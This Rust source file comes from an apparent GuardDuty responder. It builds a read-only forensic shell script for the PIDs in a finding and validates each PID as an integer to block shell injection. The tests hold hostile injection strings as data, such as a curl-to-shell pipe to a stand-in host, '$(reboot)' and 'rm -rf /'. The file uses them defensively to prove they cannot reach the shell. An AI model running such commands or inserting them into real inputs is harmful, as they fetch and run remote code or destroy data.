//! Pure: the shell script `ec2.capture_volatile` sends with `AWS-RunShellScript`, and the
//! PIDs it reads `/proc/<pid>` of.
//!
//! The finding is the attacker's to shape (a process can name itself anything, and the
//! finding's fields pass through GuardDuty as text). Only PIDs reach the script, and only
//! as integers the responder formats itself: each is parsed into a `u32` in
//! `1..=PID_MAX_LIMIT` before any text is built, so no character of the finding can reach
//! the shell. Everything else in the script is constant.

use crate::finding::{Finding, Process};

/// Linux's highest possible PID (`PID_MAX_LIMIT` on 64-bit: 2^22).
pub const PID_MAX_LIMIT: i64 = 1 << 22;

/// The PIDs the finding names, in order: the process, its lineage (parent first), then the
/// modifying and target processes of the runtime context. Valid PIDs only, each once, at
/// most `max`. Host PIDs (`pid`), not namespace PIDs: the command runs on the host.
pub fn finding_pids(finding: &Finding, max: usize) -> Vec<u32> {
    let mut named: Vec<Option<i64>> = Vec::new();
    let mut add = |p: &Process| {
        named.push(p.pid);
        named.extend(p.lineage.iter().map(|l| l.pid));
    };
    if let Some(p) = finding.process() {
        add(p);
    }
    if let Some(c) = finding.context() {
        for p in [&c.modifying_process, &c.target_process]
            .into_iter()
            .flatten()
        {
            add(p);
        }
    }
    let mut out: Vec<u32> = Vec::new();
    for pid in named.into_iter().flatten().filter_map(valid_pid) {
        if out.len() >= max {
            break;
        }
        if !out.contains(&pid) {
            out.push(pid);
        }
    }
    out
}

/// A PID as the kernel could have issued it, or nothing.
pub fn valid_pid(n: i64) -> Option<u32> {
    (1..=PID_MAX_LIMIT)
        .contains(&n)
        .then(|| u32::try_from(n).ok())
        .flatten()
}

/// The script's start. Each section starts with a marker line so the output can be split;
/// every command's errors go to stdout with it, and each is cut by `timeout` so that one
/// stuck read cannot use the whole time limit. The most telling output comes first: when
/// the instance cannot reach S3 from isolation, only the first 24,000 characters (what
/// `GetCommandInvocation` returns) reach the bundle.
const HEAD: &str = r#"#!/bin/sh
# guardduty-responder volatile capture (docs/evidence.md). Read-only.
export LC_ALL=C PATH=/usr/sbin:/usr/bin:/sbin:/bin
T="timeout 10"
command -v timeout >/dev/null 2>&1 || T=""
section() { printf '\n===== %s =====\n' "$1"; }
section "date"; date -u +%Y-%m-%dT%H:%M:%SZ; uname -a 2>&1
"#;

/// Per PID, first pass (`$pid` is set by the loop from the literal list): whether it runs,
/// the executable's link and hash, its identity and its command line.
const PER_PID_FIRST: &str = r#"  d="/proc/$pid"
  section "pid $pid"
  if [ ! -d "$d" ]; then echo "no such process (exited)"; continue; fi
  ls -l "$d/exe" 2>&1; $T sha256sum "$d/exe" 2>&1
  $T grep -E '^(Name|State|PPid|Uid|Gid):' "$d/status" 2>&1
  section "pid $pid cmdline"; $T tr '\0' ' ' < "$d/cmdline" 2>&1; echo
"#;

/// The machine-wide lists.
const MIDDLE: &str = r#"section "ss"; $T ss -tunape 2>&1 || $T netstat -tunape 2>&1
section "ps"; $T ps -eo pid,ppid,uid,user,lstart,etime,stat,args --no-headers 2>&1 || $T ps aux 2>&1
section "modules"; $T lsmod 2>&1 || $T cat /proc/modules 2>&1
"#;

/// Per PID, second pass: the open files, the environment, the memory maps (the longest).
const PER_PID_LAST: &str = r#"  d="/proc/$pid"
  [ -d "$d" ] || continue
  section "pid $pid fd"; $T ls -l "$d/fd" 2>&1
  section "pid $pid environ"; $T tr '\0' '\n' < "$d/environ" 2>&1
  section "pid $pid maps"; $T cat "$d/maps" 2>&1
"#;

/// The whole script for these PIDs (none: processes, connections and modules only).
pub fn script(pids: &[u32]) -> String {
    let list: Vec<String> = pids.iter().map(u32::to_string).collect();
    let each = |body: &str| {
        if list.is_empty() {
            String::new()
        } else {
            format!("for pid in {}; do\n{body}done\n", list.join(" "))
        }
    };
    format!(
        "{HEAD}{}{MIDDLE}{}section \"end\"\n",
        each(PER_PID_FIRST),
        each(PER_PID_LAST)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(process: serde_json::Value) -> Finding {
        let doc = serde_json::json!({
            "id": "f", "type": "Execution:Runtime/NewBinaryExecuted", "accountId": "123456789012",
            "region": "eu-west-1", "resource": {"resourceType": "Instance"},
            "service": {"runtimeDetails": {"process": process}},
        });
        serde_json::from_value(doc).expect("a finding")
    }

    #[test]
    fn pids_come_from_the_process_and_its_lineage_once_each() {
        let f = finding(serde_json::json!({
            "pid": 51877, "name": "x",
            "lineage": [{"pid": 51866}, {"pid": 51877}, {"pid": 1}],
        }));
        assert_eq!(finding_pids(&f, 16), vec![51877, 51866, 1]);
        assert_eq!(finding_pids(&f, 2), vec![51877, 51866]);
        let s = script(&finding_pids(&f, 16));
        assert!(s.contains("for pid in 51877 51866 1; do\n"), "{s}");
    }

    /// The attacker names the process and, through a lenient parser, could offer any text
    /// as a PID: none of it reaches the script, which is the constant text and the loop of
    /// integers the responder formatted.
    #[test]
    fn a_hostile_pid_or_name_cannot_reach_the_shell() {
        let hostile = [
            serde_json::json!("1; curl evil.example | sh"),
            serde_json::json!("$(reboot)"),
            serde_json::json!("`id`"),
            serde_json::json!("12\n rm -rf /"),
            serde_json::json!(-1),
            serde_json::json!(0),
            serde_json::json!(4194305),
            serde_json::json!(1e300),
            serde_json::json!(9007199254740993_u64),
            serde_json::json!(18446744073709551615_u64),
        ];
        for pid in hostile {
            let f = finding(serde_json::json!({
                "pid": pid.clone(),
                "name": "$(reboot); `id` ' \" \n",
                "executablePath": "/tmp/x; reboot",
                "lineage": [{"pid": pid.clone(), "name": "$(id)"}, {"pid": 4242}],
            }));
            let pids = finding_pids(&f, 16);
            assert_eq!(pids, vec![4242], "{pid}");
            let s = script(&pids);
            assert_eq!(s, script(&[4242]), "{pid}");
            for bad in ["reboot", "curl", "rm -rf", "`id`", "$(id)", "evil"] {
                assert!(!s.contains(bad), "{pid}: {bad} in\n{s}");
            }
        }
        // No PID at all: the constant sections only, no loop.
        let none = script(&[]);
        assert!(!none.contains("for pid"), "{none}");
        assert!(none.contains("lsmod") && none.contains("ss -tunape"));
        assert!(none.contains("/proc/modules") && none.contains("ps -eo"));
    }

    #[test]
    fn a_valid_pid_is_an_integer_the_kernel_could_issue() {
        assert_eq!(valid_pid(1), Some(1));
        assert_eq!(valid_pid(PID_MAX_LIMIT), Some(4_194_304));
        for bad in [0, -5, PID_MAX_LIMIT + 1, i64::MAX, i64::MIN] {
            assert_eq!(valid_pid(bad), None, "{bad}");
        }
    }
}
